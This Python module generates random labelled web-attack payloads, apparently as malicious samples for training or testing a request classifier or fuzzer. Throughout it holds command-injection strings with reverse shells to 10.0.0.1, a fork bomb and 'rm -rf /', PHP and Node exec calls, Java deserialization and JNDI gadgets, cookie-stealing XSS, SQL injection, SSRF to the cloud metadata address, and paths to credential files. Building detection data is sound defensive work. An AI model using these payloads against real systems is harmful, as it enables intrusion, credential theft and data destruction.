"""Payloads that are meant for an interpreter: shells, PHP, Node.js, Java, browsers, databases.

Templates by what the interpreters accept, for the kinds that requests.grammar has few of.
"""

import random
from base64 import b64encode
from collections.abc import Callable

from normal import token, word

UNIX = (
    *("ls", "cat", "id", "whoami", "uname", "w", "ps", "pwd", "env", "printenv", "set", "hostname"),
    *("ifconfig", "ip", "netstat", "ss", "arp", "dig", "nslookup", "ping", "traceroute", "curl"),
    *("wget", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "ftp", "tftp", "rsync"),
    *("bash", "sh", "dash", "zsh", "ksh", "csh", "busybox", "python", "python3", "perl", "ruby"),
    *("php", "node", "lua", "gcc", "make", "awk", "gawk", "sed", "grep", "find", "xargs", "tee"),
    *("head", "tail", "less", "more", "nl", "tac", "rev", "sort", "cut", "xxd", "od", "strings"),
    *("base64", "base32", "openssl", "gzip", "gunzip", "tar", "zip", "unzip", "dd", "cp", "mv"),
    *("rm", "ln", "chmod", "chown", "mkdir", "touch", "kill", "nohup", "crontab", "at", "sudo"),
    *("su", "passwd", "useradd", "mount", "df", "du", "lsof", "lscpu", "dmesg", "systemctl"),
    *("service", "apt", "yum", "pip", "npm", "git", "docker", "screen", "tmux", "expr", "sleep"),
    *("printf", "echo", "eval", "exec", "source", "alias", "export", "time", "timeout", "watch"),
)
WINDOWS = (
    *("dir", "type", "copy", "del", "cmd", "net", "net1", "ipconfig", "tasklist", "taskkill"),
    *("whoami", "systeminfo", "wmic", "reg", "sc", "schtasks", "certutil", "bitsadmin", "mshta"),
    *("rundll32", "regsvr32", "powershell", "pwsh", "cscript", "wscript", "nltest", "netsh"),
    *("ping", "tracert", "findstr", "icacls", "attrib", "more", "ver", "msiexec", "forfiles"),
)
CMDLETS = (
    *("Invoke-Expression", "Invoke-WebRequest", "Get-Content", "Get-ChildItem", "Get-Process"),
    *("Start-Process", "New-Object", "Out-File", "Set-ExecutionPolicy", "Get-WmiObject"),
    *("iex", "iwr", "gci", "gc", "gps", "ls", "sal", "ni", "rvpa", "Invoke-Command"),
)
ARGUMENTS = (
    *("", "", " -a", " -la", " -c", " -e", " /", " /tmp", " /etc/passwd", " /etc/*", " ~/.ssh"),
    *(" 127.0.0.1", " http://{a}.com/{a}", " -c {n} {a}.com", " {a}", " 2>&1", " > /tmp/{a}"),
    *(" < /etc/hosts", " -n {n}", " --version", " -rf /", " -lvp {n}", " -O /tmp/{a}", " aux"),
)
FUNCTIONS = (
    *("system", "exec", "passthru", "shell_exec", "popen", "proc_open", "eval", "assert"),
    *("phpinfo", "base64_decode", "gzinflate", "str_rot13", "file_get_contents", "readfile"),
    *("file_put_contents", "fopen", "unlink", "include", "require_once", "call_user_func"),
    *("array_map", "create_function", "preg_replace", "unserialize", "curl_exec", "move_uploaded"),
    *("chmod", "symlink", "scandir", "glob", "highlight_file", "show_source", "getenv", "putenv"),
    *("extract", "parse_str", "ini_set", "dl", "mail", "posix_getpwuid", "is_dir", "fwrite"),
)
GLOBALS = (
    *("_GET", "_POST", "_COOKIE", "_REQUEST", "_SERVER", "_FILES", "_ENV", "_SESSION", "GLOBALS"),
    *("HTTP_POST_VARS", "HTTP_SERVER_VARS", "argv", "php_errormsg", "http_response_header"),
)
CLASSES = (
    *("java.lang.Runtime", "java.lang.ProcessBuilder", "java.lang.System", "java.lang.Class"),
    *("java.io.File", "java.io.FileInputStream", "java.net.URL", "java.util.Scanner"),
    *("javax.script.ScriptEngineManager", "java.beans.XMLDecoder", "sun.misc.Unsafe"),
    *("org.apache.commons.collections.functors.InvokerTransformer", "ognl.OgnlContext"),
    *("org.springframework.context.support.ClassPathXmlApplicationContext", "java.rmi.Naming"),
    *("com.opensymphony.xwork2.ActionContext", "freemarker.template.utility.Execute"),
    *("org.codehaus.groovy.runtime.MethodClosure", "bsh.Interpreter", "clojure.core$eval"),
)
SECRETS = (
    *(".env", ".env.local", ".git/config", ".gitconfig", ".svn/wc.db", ".hg/hgrc", ".htaccess"),
    *(".htpasswd", ".bashrc", ".bash_history", ".zsh_history", ".mysql_history", ".psql_history"),
    *(".ssh/authorized_keys", ".ssh/id_ed25519", ".aws/config", ".aws/credentials", ".npmrc"),
    *(".azure/accessTokens.json", ".config/gcloud/credentials.db", ".kube/config", ".netrc"),
    *(".docker/config.json", ".pgpass", ".my.cnf", ".viminfo", ".python_history", ".lesshst"),
    *("proc/self/fd/3", "proc/version", "proc/1/cmdline", "proc/net/tcp", "proc/cpuinfo"),
    *("sys/class/net", "etc/fstab", "etc/issue", "etc/ssh/sshd_config", "etc/crontab"),
    *("etc/mysql/my.cnf", "etc/apache2/apache2.conf", "etc/php.ini", "var/log/apache2/access.log"),
    *("var/run/secrets/kubernetes.io/serviceaccount/token", "boot/grub/grub.cfg"),
    *("wp-config.php", "config.inc.php", "LocalSettings.php", "settings.py", "appsettings.json"),
    *("WEB-INF/classes/application.yml", "META-INF/MANIFEST.MF", "web.config", "Dockerfile"),
    *("winnt/repair/sam", "inetpub/wwwroot/web.config", "windows/debug/netsetup.log"),
    *(".vscode/sftp.json", ".idea/workspace.xml", ".claude/settings.json", ".cursor/mcp.json"),
)
SCHEMES = (
    *("php", "phar", "zlib", "glob", "data", "expect", "ssh2", "rar", "ogg", "zip", "compress"),
    *("bzip2", "ssh2.exec", "ssh2.sftp", "compress.zlib", "compress.bzip2"),
)


def broken(name: str, rng: random.Random) -> str:
    """Return a command's name as a shell reads it, too."""
    at = rng.randint(1, max(1, len(name) - 1))
    a, b = name[:at], name[at:]
    return rng.choice(
        [
            *(name, name, name, name, name),
            *(f"/bin/{name}", f"/usr/bin/{name}", f"/usr/local/bin/{name}", f"/sbin/{name}"),
            *(f'{a}""{b}', f"{a}''{b}", f"{a}\\{b}", f"'{name}'", f'"{a}"{b}', f"\\{name}"),
            *(f"{a}$@{b}", f"{a}${{x}}{b}", f"{a}$*{b}", f"{a}`{b}", f"/???/{a[0]}?{b}"),
            *(f"/b[i]n/{name}", f"{a}$()"[: len(a) + 3] + b, f"{{{name},}}", f"./{name}"),
        ]
    )


def unix(rng: random.Random) -> str:
    argument = (
        rng.choice(ARGUMENTS).replace("{a}", word(rng)).replace("{n}", str(rng.randint(1, 99)))
    )
    if rng.random() < 0.2:
        argument = argument.replace(" ", rng.choice(["${IFS}", "$IFS$9", "\t", "<", "%09", "{,}"]))
    return broken(rng.choice(UNIX), rng) + argument


def shell(rng: random.Random) -> str:
    c, d, a = unix(rng), unix(rng), word(rng, 1, 8)
    return rng.choice(
        [
            *(f";{c}", f"; {c}", f"| {c}", f"|{c}", f"&& {c}", f"&{c}", f"|| {c}", f"\n{c}"),
            *(f"{a};{c}", f"{a}|{c}", f"{a}&&{c}", f"{a}; {c};", f"{a}`{c}`", f"{a}$({c})"),
            *(f"`{c}`", f"$({c})", f"<({c})", f">({c})", f"$(({c}))", f"({c})", f"{{ {c}; }}"),
            *(f"${{{a}:-{c}}}", f"${{!{a}*}}", f"$'{c}'", f"${{{a}//{a}/}}", f"${{#{a}}}"),
            *(f"!{c}", f"if true; then {c}; fi", f"while [ 1 ]; do {c}; done", f"coproc {c}"),
            *(f"for i in $(seq 1 9); do {c}; done", f"case {a} in *) {c};; esac"),
            f"{a}=1 {c}",
            f"env {a}=1 {c}",
            f"nice {c}",
            f"sudo {c}",
            f"nohup {c} &",
            f"time {c}",
            *(f"exec {c}", f"eval {c}", f"xargs {c}", f"command {c}", f"trap '{c}' EXIT"),
            *(f"alias {a}='{c}'", f"alias {a}={c}; {a}", "!!", "!-1", "~+", "~-"),
            *(":(){ :|:& };:", f"() {{ {a}; }}; {c}", f"() {{ _; }} >_[$($())] {{ {c}; }}"),
            *(f"sh -c '{c}'", f'bash -c "{c}"', "sh -i >& /dev/udp/10.0.0.1/53 0>&1"),
            f"{c} | {d}",
            f"{c} && {d}",
            c if " " in c else f"{c};",
            f"{c}; #",
            f"'; {c} #",
            f'"; {c} #',
            f"'&{c}&'",
            *(f"{a}%0A{c}", f"0<&196;exec 196<>/dev/tcp/10.0.0.1/{a}; {c}", f"cd /tmp;{c};{d}"),
            *(f"echo {b64encode(c.encode()).decode()} | base64 -d | sh", f"{c} <<< {a}"),
        ]
    )


def windows(rng: random.Random) -> str:
    a, name = word(rng), rng.choice(WINDOWS)
    if rng.random() < 0.2:
        at = rng.randint(1, len(name) - 1)
        name = name[:at] + rng.choice(["^", '""', "%x%"]) + name[at:]
    c = name + rng.choice(
        ["", " /c dir", f" {a}", " /all", " user", " c:\\", " /s", ".exe", ".com"]
    )
    p = rng.choice(CMDLETS) + rng.choice(["", f" {a}", f" -Uri http://{a}.com/x.ps1", f" ({a})"])
    return rng.choice(
        [
            *(f"& {c}", f"| {c}", f"&& {c}", f"|| {c}", f"{a}&{c}&", f'"&{c}&"', f"%0a{c}", c),
            *(f"cmd /c {c}", f"cmd.exe /k {c}", f"%COMSPEC% /c {c}", f"start {c}", f"call {c}"),
            *(f"for /f %i in ('{c}') do echo %i", f"if exist {a} {c}", f"; {p}", f"| {p}", p),
            *(f"powershell -c {p}", f"powershell.exe -nop -w hidden -e {token(rng)}", f"$({p})"),
            *(f"{p} | {rng.choice(CMDLETS)}", f"C:\\Windows\\System32\\{c}", f"\\\\{a}\\c$\\{c}"),
        ]
    )


def php(rng: random.Random) -> str:
    f, a, g = rng.choice(FUNCTIONS), word(rng, 1, 8), rng.choice(GLOBALS)
    inner = rng.choice([f"'{unix(rng)}'", f'"{a}"', f"${g}['{a}']", f"${g}[{a}]", "", f"'{a}.php'"])
    gap = rng.choice(["", "", " ", "/**/", "\n", f"/*{a}*/", " /*x*/ "])
    name = rng.choice([f, f, f.upper(), f.title(), f"\\{f}", f"@{f}"])
    at = rng.randint(1, len(f) - 1)
    call = f"{name}{gap}({inner})"
    return rng.choice(
        [
            *(call, call, f"{call};", f"<?php {call}; ?>", f"<?={call}?>", f"<? {call} ?>"),
            f"<?php echo {call};",
            f"<script language='php'>{call}</script>",
            f"[php]{call}[/php]",
            *(f"';{call};//", f'".{call}."', f"'.{call}.'", f"${{{call}}}", f"{{${{{call}}}}}"),
            f"('{f}')({inner})",
            f"('{f[:at]}'.'{f[at:]}')({inner})",
            f"{f[:at]}.({f[at:]}){gap}()",
            f"(({f}))({inner})",
            f"[{f}][0]({inner})",
            f"{{{f}}}({inner})",
            f"(string)'{f}'({inner})",
            *(f"$_={g};$${a}", f"${g}", f"${g}[{a}]", f"${{{g}}}[{a}]", f"{g}[{a}]", f"$ {g}"),
            *(f"${a}='{f}';${a}({inner});", f"$x=chr({at}).chr(1{at});$x({inner});"),
            *(f'O:{len(a)}:"{a}":1:{{s:1:"{a}";s:2:"id";}}', f'a:1:{{i:0;O:4:"{a}":0:{{}}}}'),
            *('C:11:"ArrayObject":37:{x:i:0;a:0:{};m:a:0:{}}', f"{f}%00({inner})"),
            f"{rng.choice(SCHEMES)}://{a}",
            f"{rng.choice(SCHEMES)}://filter/{a}/resource={a}.php",
            f"php://{rng.choice(['input', 'stdin', 'fd/3', 'memory', 'temp', 'output'])}",
            *(f"auto_append_file={a}", "disable_functions=", f"open_basedir={a}", "safe_mode=0"),
            *(f"new ReflectionFunction('{f}')", f"{a}::{f}({inner})", f"fn() => {call}"),
        ]
    )


def node(rng: random.Random) -> str:
    a, c = word(rng, 1, 8), unix(rng)
    module = rng.choice(["child_process", "fs", "net", "http", "os", "vm", "cluster", "repl"])
    call = rng.choice(
        [
            *(f".exec('{c}')", f".execSync('{c}').toString()", f".spawn('{c}')", f".fork('{a}')"),
            *(".readFileSync('/etc/passwd')", ".readdirSync('.')", f".runInNewContext('{a}')"),
        ]
    )
    quoted = rng.choice(["'{}'", '"{}"', "`{}`", "('{}')"]).replace("{}", module)
    return rng.choice(
        [
            f"require({quoted}){call}",
            f"require({quoted})",
            f"global.process.mainModule.require({quoted})",
            f"process.mainModule.require({quoted}){call}",
            f"process.binding('{a}')",
            "process.env",
            "process.exit()",
            "process.kill(process.pid)",
            f"process.env.{a.upper()}",
            "process.cwd()",
            f"import({quoted})",
            f"await import({quoted})",
            f"module.constructor._load({quoted})",
            f'{{"{a}":"_$$ND_FUNC$$_function(){{{c}}}()"}}',
            f"_$$ND_FUNC$$_{a}",
            f"_$$ND_CC$$_{a}",
            f"new Function('{a}')()",
            f"(function(){{return {a}}})()",
            "Function('return this')()",
            "this.constructor.constructor('return process')()",
            f"eval('{a}')",
            f"setTimeout('{a}',0)",
            f"[].map.constructor('{a}')()",
            f"Reflect.construct({a})",
            f"String.fromCharCode({len(a)})",
            f"__proto__[{a}]=1",
            f"__proto__.{a}={a}",
            f"constructor.prototype.{a}=1",
            "__proto__",
            *(f'{{"__proto__":{{"{a}":true}}}}', f'{{"constructor":{{"prototype":{{"{a}":1}}}}}}'),
            f"constructor[prototype][{a}]=1",
            f"{a}.__proto__.{a}",
            f"Object.assign({a}, __proto__)",
            *("while(true){}", f"res.end({a})", "root.process", f"arguments.callee.caller({a})"),
            f"#{{`{c}`}}",
            f"%x({c})",
            f"IO.popen('{c}').read",
            f"Kernel.exec('{c}')",
            f"Process.spawn('{c}')",
            f"@{{[system '{c}']}}",
            f"@{{[`{c}`]}}",
            f"qx({c})",
            f"open(F, '|{c}')",
            f"system({c});",
            f"__import__('subprocess').check_output('{c}')",
            f"os.system('{c}')",
            f"exec('import {a}')",
            *(f"subprocess.Popen(['{c}'])", "().__class__.__bases__[0]", f"globals()['{a}']"),
        ]
    )


def java(rng: random.Random) -> str:
    name, a, c = rng.choice(CLASSES), word(rng, 1, 8), unix(rng)
    return rng.choice(
        [
            *(f"{name}", f"{name}.getRuntime().exec('{c}')", f"new {name}('{c}').start()"),
            f"%{{(#_='multipart/form-data').(#{a}=@{name}@{a}).(#p={a})}}",
            f"@{name}@getRuntime()",
            *(f"${{@{name}@getRuntime().exec('{c}')}}", f"(#context['{a}']=false)", f"T({name})"),
            *("#_memberAccess['allowStaticMethodAccess']=true", f"%{{#a=(new {name}('{c}'))}}"),
            f"class.module.classLoader.resources.context.parent.pipeline.first.{a}={a}",
            f"class['classLoader']['{a}']",
            f"''.getClass().forName('{name}')",
            f"{a}.getClass()",
            f'<java><object class="{name}"><void method="{a}"/></object></java>',
            f'"{a}".execute()',
            f"rO0AB{token(rng)}",
            f"\\xac\\xed\\x00\\x05{a}",
            f"aced0005{token(rng, '0123456789abcdef')}",
            *(f'["{name}",{{"{a}":"ldap://{a}"}}]', f'{{"@type":"{name}","{a}":"rmi://{a}/o"}}'),
            *(f"!!{name} [{a}]", f"redirect:${{#{a}.get('{name}')}}", f"new URLClassLoader({a})"),
        ]
    )


def browser(rng: random.Random) -> str:
    a, n = word(rng, 1, 8), rng.randint(0, 999)
    js = rng.choice(
        [
            f"alert({n})",
            f"alert`{n}`",
            f"confirm({n})",
            f"prompt('{a}')",
            "alert(document.domain)",
            f"self['alert']({n})",
            f'window["al"+"ert"]({n})',
            f"top[/al/.source+/ert/.source]({n})",
            "document['cookie']",
            f"document./*{a}*/cookie",
            f"document.write('<{a}>')",
            f"parent.{a}()",
            f"location='//{a}.com/'+document.cookie",
            f"fetch('//{a}.com')",
            "eval(name)",
            f"this['{a}']",
            f"globalThis[`al${{'ert'}}`]({n})",
            f"frames[0].{a}",
            f"import('//{a}.com')",
            f"open('{a}')",
            f"[{n}].find(alert)",
            f"Function(`{a}`)()",
            f"setTimeout('{a}()')",
            f"eval(atob('{token(rng)}'))",
        ]
    )
    event = "on" + rng.choice(
        [
            "load",
            "error",
            "click",
            "mouseover",
            "focus",
            "toggle",
            "begin",
            "pointerenter",
            "copy",
            "animationstart",
            "wheel",
            "beforeinput",
            "scrollend",
            "message",
            "pageshow",
            "input",
        ]
    )
    tag = rng.choice(
        ["img", "svg", "body", "iframe", "video", "details", "input", "a", "x", "math"]
    )
    gap = rng.choice([" ", " ", "/", "\t", "\n", "/**/", "%0c"])
    return rng.choice(
        [
            f"<script>{js}</script>",
            f"<script{gap}src=//{a}.com></script>",
            f"<ScRiPt>{js}</sCrIpT>",
            f"<{tag}{gap}{event}={js}>",
            f"<{tag}{gap}src=x{gap}{event}='{js}'>",
            f'"{event}="{js}"',
            f'"><{tag} {event}={js}>',
            f"'><script>{js}</script>",
            f"javascript:{js}",
            f"';{js};//",
            f'" autofocus {event}="{js}',
            f"{a}' {event}='{js}",
            f"`-{js}-`",
            f"'-{js}-'",
            f"</{a}>{js}",
            f"java&#x0A;script:{js}",
            f"&#106;avascript:{js}",
            f"vbscript:{a}",
            f"<a href=javascript:{js}>",
            f"data:text/html,<{tag} {event}={js}>",
            f"data:text/html;base64,{token(rng)}",
            js,
            js,
            f"<meta http-equiv=refresh content=0;url=javascript:{js}>",
            f"<base href=//{a}.com/>",
            f"<object data=javascript:{js}>",
            f"<embed src=//{a}.com/{a}.swf>",
            f"<link rel=import href={a}>",
            f"<applet code={a}>",
            f"<form action=javascript:{js}>",
            f"<button formaction=javascript:{js}>",
            f"<svg><use xlink:href=data:{a}>",
            f"<svg><animate xlink:href=#x {event}={js}>",
            f"<xml src={a}>",
            f"<style>@import '//{a}.com';</style>",
            f"<div style=x:expression({js})>",
            f"<isindex {a}>",
            f"style=-moz-binding:url(//{a})",
            f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{js}",
            f"<!--[if IE]><script>{js}</script>",
            f"<![CDATA[<script>{js}]]>",
            f"<bgsound src={js}>",
            f"+ADw-script+AD4-{js}+ADw-/script+AD4-",
            f"%u003cscript%u003e{js}",
            f"\\x3cscript\\x3e{js}",
            f"{{{{constructor.constructor('{js}')()}}}}",
            f"<template><{tag} {event}={js}>",
            f"<marquee {event}={js}>",
            "".join(rng.choices(["[]", "![]", "+", "(", ")", "!+[]", "{}", "[+[]]"], k=30)),
        ]
    )


def database(rng: random.Random) -> str:
    a, b, n = word(rng, 1, 8), word(rng, 1, 8), rng.randint(0, 99)
    gap = rng.choice([" ", " ", "/**/", "\t", "%0a", "+", "/*!50000*/", "("])
    query = rng.choice(
        [
            f"union{gap}select {n},{a}",
            f"union all select null,null,{a}",
            f"or {n}={n}",
            f"and {n}>{n}",
            f"or '{a}'='{a}'",
            f"and sleep({n})",
            f"or benchmark({n}00000,md5({n}))",
            f"or pg_sleep({n})",
            f"waitfor delay '0:0:{n}'",
            f"waitfor time '{n}:00'",
            f"exec xp_cmdshell '{a}'",
            "shutdown",
            f"order by {n}",
            f"group by {a} having {n}={n}",
            f"drop table {a}",
            f"insert into {a} values({n})",
            f"alter table {a} character set utf8",
            f"select case when {n}={n} then {a} end",
            f"limit 1 into outfile '{a}'",
            "procedure analyse()",
            f"merge into {a} using {b}",
            f"execute immediate '{a}'",
            f"match {a} against {b}",
            "select load_file('/etc/passwd')",
            f"extractvalue({n},concat(0x7e,{a}))",
            f"like '%{a}%'",
            f"create function {a} returns string soname '{b}'",
            f"create procedure {a} @x int as",
            f"declare @{a} int",
            "select @@version",
            f"select {a} from information_schema.tables",
            f"rlike (select {n})",
            f"regexp '^{a}'",
            f"between {n} and {n}",
            "is null",
            f"in (select {a} from {b})",
            f"xor {n}",
            f"div {n}",
            f"sounds like '{a}'",
        ]
    )
    return rng.choice(
        [
            f"'{gap}{query}--",
            f"{n}{gap}{query}",
            f'"{gap}{query}#',
            f"'){gap}{query}-- -",
            f"{n}'{query}",
            f"';{query};--",
            f"{n};{query}",
            f"{a}' {query} and '{b}'='{b}",
            f"{n}){gap}{query}",
            f"'||({query})||'",
            f"{n} {query}",
            f"'+({query})+'",
            f"{a}\\' {query}",
            f"-{n}' {query} %23",
            f"`{query}`",
            f"{{${rng.choice(['ne', 'gt', 'in', 'regex', 'where', 'or', 'nin'])}: {n}}}",
            f"[${rng.choice(['ne', 'gt', 'regex', 'where', 'not', 'all', 'size'])}]",
            f"{a}[$ne]={n}",
            f'{{"{a}": {{"${rng.choice(["ne", "gt", "regex", "where"])}": "{b}"}}}}',
            f"$where: '{a}'",
        ]
    )


def remote(rng: random.Random) -> str:
    a, n = word(rng), rng.randint(1, 254)
    scheme = rng.choice(["http", "https", "ftp", "ftps", "HTTP", "gopher", "file", "dict", "ldap"])
    host = rng.choice([f"{n}.{n}.0.{n}", f"{a}.com", "localhost", f"[::{n}]", f"0x{n:08x}", f"{n}"])
    tail = rng.choice(
        ["", f"{a}.txt", f"{a}.php", "shell.txt", "id.gif", f"{a}/{a}.inc", "r57.txt"]
    )
    return rng.choice(
        [
            f"{scheme}://{host}/{tail}?",
            f"{scheme}://{host}/{tail}??",
            f"{scheme}://{host}/{tail}%00",
            f"{scheme}://{n}.{n}.{n}.{n}/{tail}?",
            f"\\\\{host}\\{tail}",
            f"{scheme}://{a}@{host}/{tail}?&cmd=id",
            f"url:{scheme}://{host}/{tail}",
            f"{scheme}:%2f%2f{host}",
            f"unix:{a * 3}|http://{host}/",
            f"{scheme}://169.254.169.254/{tail}",
            f"jar:{scheme}://{host}!/",
        ]
    )


def secret(rng: random.Random) -> str:
    file, a = rng.choice(SECRETS), word(rng)
    up = rng.choice(
        ["", "/", "/", "../", "../../", "./", "~/", f"/home/{a}/", "/root/", f"{a}/", "c:/"]
    )
    return rng.choice(["", "", "", "file://", "/var/www/html", "..\\..\\"]) + up + file


def splitting(rng: random.Random) -> str:
    a, end = word(rng), rng.choice(["\r\n", "\n", "\r", "%0d%0a", "%0a", "%E5%98%8A%E5%98%8D"])
    header = rng.choice(
        ["Set-Cookie", "Location", "Content-Type", "Content-Length", "X-XSS-Protection"]
    )
    return rng.choice(
        [
            f"{a}{end}{header}: {a}",
            f"{end}{header}:{a}{end}{end}<html>{a}",
            f"{a}{end}HTTP/1.1 200 OK",
            f"{a}{end}POST /{a} HTTP/1.0{end}Host: {a}",
            f"{a} HTTP/1.1{end}{header}: {a}",
            f"{a}{end}{end}<{a}>",
        ]
    )


KINDS: tuple[tuple[str, Callable[[random.Random], str], int], ...] = (
    ("cmdi", shell, 20),
    ("cmdi", windows, 10),
    ("php", php, 18),
    ("cmdi", node, 14),
    ("jndi", java, 8),
    ("xss", browser, 16),
    ("sqli", database, 14),
    ("rfi", remote, 4),
    ("lfi", secret, 10),
    ("crlf", splitting, 3),
)


def payload(rng: random.Random) -> tuple[str, str]:
    """Return a payload and its kind."""
    kind, make, _ = rng.choices(KINDS, [weight for _, _, weight in KINDS])[0]
    return make(rng), kind


UPLOADS = (
    *(".php", ".php5", ".phtml", ".phar", ".php.jpg", ".inc", ".jsp", ".jspx", ".asp", ".aspx"),
    ".ashx",
    ".cgi",
    ".pl",
    ".sh",
    ".exe",
    ".htaccess",
    "/web.config",
    ".user.ini",
    ".php%00.png",
    *(".php.", ".pHp", ".shtml", ".hta", ".ps1", ".bat", ".war"),
)


def upload(rng: random.Random) -> str:
    """Return the name of a file that a server would run."""
    return rng.choice([word(rng), "shell", "cmd", "x", "up", ""]) + rng.choice(UPLOADS)
